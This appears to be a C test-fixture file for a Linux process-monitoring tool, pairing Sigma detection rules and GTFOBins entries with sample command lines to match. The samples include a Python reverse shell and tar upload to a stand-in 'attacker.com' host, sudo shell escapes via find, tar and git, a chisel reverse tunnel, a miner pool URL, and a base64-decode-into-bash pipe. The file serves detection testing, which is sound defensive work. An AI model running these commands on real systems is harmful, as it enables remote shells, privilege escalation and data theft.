/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "unit/monitor/foreign.h"

#include "base/mem.h"

#define RULE(title, level)                                             \
	"title: " title "\nlogsource:\n  category: process_creation\n" \
	"  product: linux\nlevel: " level "\ndetection:\n"

const struct foreign foreign[] = {
	{ "sigma",
	  "rules/tunnel.yml",
	  RULE("A tunnel out",
	       "critical") "  selection_img:\n    Image|endswith:\n      - /chisel\n      - /frpc\n"
	                   "  selection_cli:\n    CommandLine|contains|all:\n      - ' client '\n  "
	                   "    - 'R:'\n"
	                   "  filter_help:\n    CommandLine|endswith: ' --help'\n"
	                   "  condition: all of selection_* and not 1 of filter_*\n",
	  { .words = { "/tmp/chisel", "client", "203.0.113.7:80", "R:socks" } } },
	{ "sigma",
	  "rules/miner.yml",
	  RULE("A miner", "high") "  pool:\n    CommandLine|re: 'stratum\\+(tcp|ssl)://[^ ]+'\n"
	                          "  words:\n    - '--donate-level'\n    - 'randomx'\n"
	                          "  condition: pool or words\n",
	  { .words = { "./x", "-o", "stratum+tcp://pool.example:3333" } } },
	{ "sigma",
	  "rules/webshell.yml",
	  RULE("A shell of a web server",
	       "high") "  selection:\n    ParentImage|endswith:\n      - /apache2\n      - /nginx\n"
	               "    Image|endswith: [/sh, /bash]\n"
	               "  other:\n    CommandLine|cidr: 198.51.100.0/24\n    Image|endswith: "
	               "/telnet\n"
	               "  condition: selection or other\n",
	  { .words = { "telnet", "198.51.100.77", "23" } } },
	{ "sigma",
	  "rules/unpack.yml",
	  "status: experimental\n" RULE(
		  "Something unpacked into a shell",
		  "high") "  decode:\n    CommandLine|contains:\n      - 'base64 -d'\n      - "
	                  "'base64 --decode'\n"
	                  "      - 'xxd -r'\n"
	                  "  shell:\n    CommandLine|re: '\\|\\s*(ba|z|da)?sh\\b'\n"
	                  "  condition: decode and shell\n",
	  { .words = { "sh", "-c", "cat x | base64 -d | bash" } } },
	{ "gtfobins",
	  "_gtfobins/find",
	  "---\nfunctions:\n  shell:\n  - code: |-\n      find . -exec /bin/sh \\; -quit\n"
	  "    contexts:\n      sudo:\n      unprivileged:\n...\n",
	  { .words = { "find", ".", "-exec", "/bin/sh", ";", "-quit" } } },
	{ "gtfobins",
	  "_gtfobins/tar.md",
	  "---\nfunctions:\n  sudo:\n    - code: sudo tar xf /dev/null -I '/bin/sh -c \"sh <&2 "
	  "1>&2\"'\n"
	  "  file-upload:\n    - code: |\n        RHOST=attacker.com\n        tar cvf "
	  "user@$RHOST:x y\n"
	  "---\n",
	  { .words = { "tar", "xf", "/dev/null", "-I", "/bin/sh -c \"sh <&2 1>&2\"" } } },
	{ "gtfobins",
	  "_gtfobins/python",
	  "---\nfunctions:\n  reverse-shell:\n  - code: |-\n"
	  "      python -c 'import socket,pty;s=socket.create_connection((\"attacker.com\",12345));"
	  "pty.spawn(\"/bin/sh\")'\n...\n",
	  { .words = { "python3.11", "-c",
	               "import socket,pty; s=socket.create_connection((\"192.0.2.1\", 9));"
	               "pty.spawn(\"/bin/sh\")" } } },
	{ "gtfobins",
	  "_gtfobins/git",
	  "---\nfunctions:\n  shell:\n  - code: git -c core.pager='/bin/sh -c \"exec sh 0<&1\"' -p "
	  "help\n"
	  "    contexts:\n      sudo:\n...\n",
	  { .words = { "git", "-c", "core.pager=/bin/sh -c \"exec sh 0<&1\"", "-p", "help" } } },
};

const size_t foreign_count = ARRAY_SIZE(foreign);
